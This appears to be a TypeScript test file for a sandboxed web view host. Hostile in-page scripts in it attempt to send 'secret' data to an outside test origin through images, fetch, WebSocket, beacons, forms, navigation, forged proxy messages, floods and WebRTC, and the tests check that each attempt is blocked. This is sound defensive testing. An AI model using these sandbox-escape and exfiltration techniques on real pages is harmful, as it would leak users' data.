import { createSocket } from 'node:dgram';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { testServer, testView } from '../test-view.ts';
import { startOutside } from './outside.ts';
import { statusOf, useHost } from './test-host.ts';

const test = useHost();
let outside: Awaited<ReturnType<typeof startOutside>>;
const NOTHING = { connections: 0, requests: [] };

beforeAll(async () => {
  outside = await startOutside();
});
afterAll(() => outside.close());

describe.each([{ opaque: true }, { opaque: false }])('a hostile view, opaque origin $opaque', ({ opaque }) => {
  it('C2: every way out is blocked, and no connection is made', async () => {
    const html = testView(`
      const add = (tag, properties) => document.body.append(Object.assign(document.createElement(tag), properties));
      const attempt = (act) => { try { act(); } catch (error) { window.refusals = [...(window.refusals ?? []), error.name]; } };
      const OUT = '${outside.origin}/';
      addEventListener('DOMContentLoaded', () => {
        new Image().src = OUT + 'image?secret=1';
        add('script', { src: OUT + 'script?secret=1' });
        add('link', { rel: 'stylesheet', href: OUT + 'style?secret=1' });
        fetch(OUT + 'fetch?secret=1').catch(() => {});
        attempt(() => new WebSocket(OUT.replace('http', 'ws') + 'socket?secret=1'));
        navigator.sendBeacon(OUT + 'beacon?secret=1', 'secret');
        add('iframe', { src: OUT + 'frame?secret=1' });
        attempt(() => new Worker(URL.createObjectURL(new Blob(['1']))));
        add('base', { href: OUT + 'base?secret=1' });
        document.fonts.add(new FontFace('f', 'url(' + OUT + 'font?secret=1)'));
        document.fonts.load('1px f').catch(() => {});
        add('object', { data: OUT + 'object?secret=1' });
        attempt(() => new Function('1'));
      });`);
    const view = await test.open(html, { opaque });
    await view.initialized();
    const blocked = (await view.violations()).map((each) => `${each.directive} ${each.blocked}`).sort();
    expect(blocked).toEqual([
      `base-uri ${outside.origin}/base`,
      `connect-src ${outside.origin}/beacon`,
      `connect-src ${outside.origin}/fetch`,
      `connect-src ${outside.origin.replace('http', 'ws')}/socket`,
      `font-src ${outside.origin}/font`,
      `frame-src ${outside.origin}`,
      `img-src ${outside.origin}/image`,
      `object-src ${outside.origin}`,
      'script-src eval',
      `script-src-elem ${outside.origin}/script`,
      `style-src-elem ${outside.origin}/style`,
      'worker-src blob',
    ]);
    expect(outside.reached()).toEqual(NOTHING);
  });

  it('C2: a form goes nowhere', async () => {
    const html = testView(`
      const form = Object.assign(document.createElement('form'), { action: '${outside.origin}/?secret=1', method: 'post' });
      document.body.append(form);
      form.submit();
      requestAnimationFrame(() => requestAnimationFrame(() => say('tried')));`);
    const view = await test.open(html, { opaque });
    await view.frame.getByText('tried').waitFor();
    expect(outside.reached()).toEqual(NOTHING);
    expect(await view.ping(5000)).toBe(true);
  });

  it.each([
    ['the assignment of a location', `location = OUT`],
    ['a click on a link', `Object.assign(document.createElement('a'), { href: OUT }).click()`],
    [
      'a meta refresh',
      `document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=' + OUT }))`,
    ],
    ['a data page', `location = 'data:text/html,<h1>other</h1>'`],
  ])('C1: leaving by %s is stopped before a request', async (_how, script) => {
    const html = testView(`const OUT = '${outside.origin}/?secret=1'; connect().then(() => { ${script}; });`, {
      manual: true,
    });
    const view = await test.open(html, { opaque });
    const { notes } = await view.until((recorded) => recorded.notes.length > 1);
    expect(notes).toEqual([
      { kind: 'sandbox-view-blocked', detail: script.includes('data:') ? 'unknown' : outside.origin },
      { kind: 'sandbox-view-left', detail: undefined },
    ]);
    await view.gone();
    expect(outside.reached()).toEqual(NOTHING);
  });

  it('B7: a second page of its own ends the view: noted, removed, mount closed', async () => {
    const html = testView(`connect().then(() => location.reload());`, { manual: true });
    const view = await test.open(html, { opaque });
    const { notes } = await view.until(({ notes: found }) => found.some(({ kind }) => kind === 'sandbox-view-left'));
    expect(notes.map(({ kind }) => kind)).toEqual(['sandbox-view-left']);
    await view.gone();
    await expect.poll(() => statusOf(view.mount.proxyUrl)).toBe(410);
    expect(await view.ping(1000)).toBe(false);
  });

  it('B1: the top page and new windows are out of reach', async () => {
    const html = testView(`
      const tried = [];
      const attempt = (name, act) => { try { tried.push(name + ' ' + act()); } catch (error) { tried.push(name + ' ' + error.name); } };
      attempt('top.location', () => { top.location = '${outside.origin}/'; return 'assigned'; });
      attempt('parent.document', () => parent.document.title);
      attempt('top.document', () => top.document.title);
      attempt('parent.location', () => { parent.location = '${outside.origin}/'; return 'assigned'; });
      attempt('open', () => window.open('${outside.origin}/'));
      say(tried.join(', '));`);
    const view = await test.open(html, { opaque });
    await view.initialized();
    expect(await view.frame.locator('#said').textContent()).toBe(
      'top.location SecurityError, parent.document SecurityError, top.document SecurityError, ' +
        'parent.location SecurityError, open null',
    );
    expect(outside.reached()).toEqual(NOTHING);
    expect(new URL(test.page().url()).pathname).toBe('/');
  });

  it('B4: forged words of the proxy are dropped, and what is no JSON-RPC never reaches the host', async () => {
    const html = testView(
      `connect().then(() => {
      for (const name of ['view-left', 'view-flooded', 'proxy-ready', 'resource-ready']) notify('ui/notifications/sandbox-' + name);
      for (const nonsense of ['text', 42, null, { method: 'x' }, { jsonrpc: '1.0', method: 'x' }]) parent.postMessage(nonsense, '*');
      const words = { jsonrpc: '2.0', method: 'notifications/message', params: { level: 'info', data: 'nested' } };
      const script = 'parent.parent.postMessage(' + JSON.stringify(words) + ', "*"); parent.postMessage("said", "*");';
      const nested = document.createElement('iframe');
      nested.srcdoc = '<script>' + script + '<' + '/script>';
      addEventListener('message', ({ data }) => {
        if (data === 'said') notify('notifications/message', { level: 'info', data: 'after' });
      });
      document.body.append(nested);
    });`,
      { manual: true },
    );
    const view = await test.open(html, { opaque });
    const { traffic, notes, logs: seen } = await view.until(({ logs }) => logs.some(({ data }) => data === 'after'));
    const forged = traffic.filter(
      ({ direction, message }) => direction === 'from-view' && /sandbox-/.test(message.method ?? ''),
    );
    expect(forged.map(({ message }) => message.method)).toEqual(['ui/notifications/sandbox-proxy-ready']);
    expect(notes).toEqual([]);
    expect(seen).toEqual([{ level: 'info', data: 'after' }]);
  });

  it('B7: malformed and oversized messages are refused and noted, and the view goes on', async () => {
    const html = testView(
      `connect().then(() => {
      parent.postMessage({ jsonrpc: '2.0', nonsense: true }, '*');
      notify('notifications/message', { level: 'info', data: 'x'.repeat(1_000_001) });
      notify('notifications/message', { level: 'info', data: new Map([[1, 2]]) });
      const cycle = {}; cycle.cycle = cycle;
      notify('notifications/message', { level: 'info', data: cycle });
      notify('notifications/message', { level: 'info', data: 'after' });
    });`,
      { manual: true },
    );
    const view = await test.open(html, { opaque });
    const { logs, notes } = await view.until((recorded) => recorded.logs.length > 0);
    expect(logs).toEqual([{ level: 'info', data: 'after' }]);
    expect(notes).toEqual([
      { kind: 'malformed', detail: undefined },
      { kind: 'malformed', detail: 'notifications/message' },
      { kind: 'malformed', detail: 'notifications/message' },
      { kind: 'malformed', detail: 'notifications/message' },
    ]);
  });

  it('B7: a flood through the proxy is cut at 500 messages a second', async () => {
    const html = testView(
      `connect().then(() => {
      for (let i = 0; i < 20000; i += 1) notify('notifications/message', { level: 'info', data: i });
    });`,
      { manual: true },
    );
    const start = performance.now();
    const view = await test.open(html, { opaque });
    const { logs } = await view.until(({ notes }) => notes.some(({ kind }) => kind === 'sandbox-view-flooded'));
    const seconds = Math.ceil((performance.now() - start) / 1000);
    expect(logs.length).toBeGreaterThan(400);
    expect(logs.length).toBeLessThanOrEqual(500 * (seconds + 1));
    // Within the flooded second its answers are dropped with the rest; after it the view is heard again.
    await expect.poll(() => view.ping(1500), { timeout: 15_000, interval: 500 }).toBe(true);
  });

  it('B7, E1: posting past the proxy is noted once, and a thousand times ends the view', async () => {
    const html = testView(
      `const past = (times) => { for (let i = 0; i < times; i += 1) top.postMessage({ jsonrpc: '2.0', method: 'ui/message' }, '*'); };
      connect().then(() => { past(5); notify('notifications/message', { level: 'info', data: 'after' }); });
      addEventListener('message', ({ data }) => { if (data.method === 'ping') past(1000); });`,
      { manual: true },
    );
    const view = await test.open(html, { opaque });
    const before = await view.until(({ logs }) => logs.length > 0);
    expect(before.notes).toEqual([{ kind: 'past-proxy', detail: undefined }]);
    expect(before.messages).toEqual([]);
    await view.ping(1000);
    const after = await view.until(({ notes }) => notes.length > 1);
    expect(after.notes.map(({ kind }) => kind)).toEqual(['past-proxy', 'past-proxy-flood']);
    await view.gone();
    const toView = (await view.traffic()).filter(({ direction }) => direction === 'to-view');
    expect(toView.at(-1)?.message.method).toBe('ui/resource-teardown'); // said, though nothing waits for an answer
  });
});

it('C1: WebRTC sends nothing under Connection-Allowlist, and does in the reference profile, which has none', async () => {
  const stun = createSocket('udp4');
  const packet = new Promise<string>((resolve) => stun.once('message', () => resolve('packet')));
  await new Promise<void>((bound) => stun.bind(0, '127.0.0.1', bound));
  const html = testView(`
    const connection = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${stun.address().port}' }] });
    connection.createDataChannel('secret');
    connection.addEventListener('icegatheringstatechange', () => {
      if (connection.iceGatheringState === 'complete') say('gathered');
    });
    connection.createOffer().then((offer) => connection.setLocalDescription(offer)).catch((error) => say(error.name));`);
  const host = await test.start({ test: testServer(html) });
  const firstOf = async (profile: 'spec' | 'reference') => {
    const view = await host.open(test.page(), { tool: 'show_test', profile });
    const gathered = view.frame.getByText('gathered').waitFor();
    const first = await Promise.race([gathered.then(() => 'gathered'), packet]);
    await view.teardown();
    await Promise.allSettled([gathered]);
    return first;
  };
  expect(await firstOf('spec')).toBe('gathered');
  expect(await firstOf('reference')).toBe('packet');
  await new Promise<void>((closed) => stun.close(closed));
});
